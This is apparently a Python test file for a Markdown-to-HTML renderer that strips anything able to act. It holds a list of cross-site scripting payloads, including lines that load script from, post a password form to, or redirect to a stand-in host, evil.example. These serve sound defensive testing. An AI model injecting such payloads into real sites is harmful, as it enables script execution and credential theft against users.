"""Laws of turning Markdown into HTML that cannot act."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consentgate.terms.blocks import MAX_SIGNS
from consentgate.terms.markdown import ID_PREFIX, render, slug

ALLOWED_ATTRIBUTES = {
    "id", "lang", "dir", "href", "title", "name", "rel", "start", "type", "reversed", "value", "colspan", "rowspan",
    "align", "scope", "span", "datetime",
}  # fmt: skip
ACTIVE_TAGS = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "img", "svg", "math", "link", "meta",
    "base", "video", "audio", "template", "textarea", "select", "body", "html", "head",
}  # fmt: skip


class Reader(HTMLParser):
    """What a browser would find in the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data


def harmless(html: str) -> Reader:
    """Assert that nothing in the HTML can act, and read it."""
    found = Reader(html)
    assert not ACTIVE_TAGS.intersection(found.tags)
    for _, name, value in found.attributes:
        assert name in ALLOWED_ATTRIBUTES
        if name == "href":
            assert re.match(r"(?i)(https?:|mailto:|tel:|[^:]*$|[#/?.])", value.strip()), value
        if name in ("id", "name"):
            assert value.startswith(ID_PREFIX)
    return found


ATTACKS = [
    "<script>alert(1)</script>",
    "before <script src=//evil.example/x.js></script> after",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='  javascript:alert(1)'>click</a>",
    "<a href=x onclick=alert(1) onmouseover='alert(2)'>click</a>",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>body { display: none }</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<div class='cg-main' id='consentgate'>shadow</div>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Accept</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "```html\n<script>alert(1)</script>\n```",
    "[x]: javascript:alert(1)\n\n[x]",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<a name=x id=login href='#login'>jump</a>",
    "<video autoplay onplay=alert(1)><source src=x></video>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_rendering(attack: str) -> None:
    """Scripts, event handlers, styles, foreign content and script links are gone; the words around them stay."""
    assert "around" in harmless(render(f"{attack}\n\naround\n")).words


MIXTURES = [*ATTACKS, "<b>", "</p>", "**", "[", "](", ")", "`", "\n\n", "> ", "* ", "x", "&lt;", "<"]


@given(st.lists(st.sampled_from(MIXTURES), max_size=12).map("".join))
def test_no_mixture_of_attacks_survives_rendering(text: str) -> None:
    """However attacks and Markdown are mixed, what comes out cannot act."""
    harmless(render(text))


@given(st.text(max_size=80))
def test_any_text_renders_to_something_harmless(text: str) -> None:
    """Rendering never fails and never gives away control."""
    harmless(render(text))


def test_raw_html_keeps_its_harmless_formatting() -> None:
    """Policies written with some HTML keep bold words, breaks, lists and tables."""
    html = render("<div><p>One<br>two <strong>three</strong></p><ul><li>four</li></ul></div>\n")
    assert "<p>One<br>two <strong>three</strong></p><ul><li>four</li></ul>" in html


def test_links_name_no_opener_and_no_referrer() -> None:
    """Every link carries rel="noopener noreferrer"."""
    html = render("[there](https://example.org/a?b=1)\n")
    assert '<a href="https://example.org/a?b=1" rel="noopener noreferrer">there</a>' in html


def test_links_within_the_text_lead_to_its_own_headings() -> None:
    """Both the id of a heading and the link to it get our prefix, so the link still works."""
    html = render("[down](#paying)\n\n## Paying\n")
    assert f'href="#{ID_PREFIX}paying"' in html
    assert f'<h2 id="{ID_PREFIX}paying">' in html


def test_headings_with_the_same_words_have_ids_of_their_own() -> None:
    """Heading ids are unique."""
    ids = [
        value
        for _, name, value in harmless(render("# Fees\n\n# Fees\n\n# Fees 1\n\n# Fees\n")).attributes
        if name == "id"
    ]
    assert len(ids) == len(set(ids)) == 4


@pytest.mark.parametrize(("shift", "tags"), [(0, ["h1", "h5", "h6"]), (1, ["h2", "h6", "h6"]), (3, ["h4", "h6", "h6"])])
def test_headings_move_down_by_the_shift_and_no_further_than_six(shift: int, tags: list[str]) -> None:
    """A text's own title fits under the title of the page."""
    assert harmless(render("# a\n\n##### b\n\n<h6>c</h6>\n", shift=shift)).tags == tags


def test_images_are_shown_as_their_description() -> None:
    """A text that is signed must not depend on what another server shows today."""
    found = harmless(render('![Our "badge"](https://example.org/b.png)\n'))
    assert found.words.strip() == 'Our "badge"'


def test_columns_keep_their_alignment_without_styles() -> None:
    """Alignment is an attribute, because a strict content security policy ignores styles."""
    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |\n")
    assert '<td align="right">1</td>' in html
    assert '<td align="center">2</td>' in html


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("3. Paying & refunds", "3-paying-refunds"),
        ("Größe", "größe"),
        ("料金 について", "料金-について"),
        ("!?", "section"),
    ],
)
def test_a_slug_keeps_letters_and_digits_of_any_script(title: str, expected: str) -> None:
    """Ids can be read in the address bar in every language."""
    assert slug(title) == expected


def test_a_text_made_to_keep_the_parser_busy_is_shown_as_it_stands() -> None:
    """Above the limit of signs nothing is parsed, everything is shown, nothing acts."""
    text = "[" * (MAX_SIGNS + 1) + "\n\n<script>alert(1)</script> **kept**\n"
    found = harmless(render(text))
    assert found.words.count("[") == MAX_SIGNS + 1
    assert "<script>alert(1)</script> **kept**" in found.words
    assert set(found.tags) == {"p"}
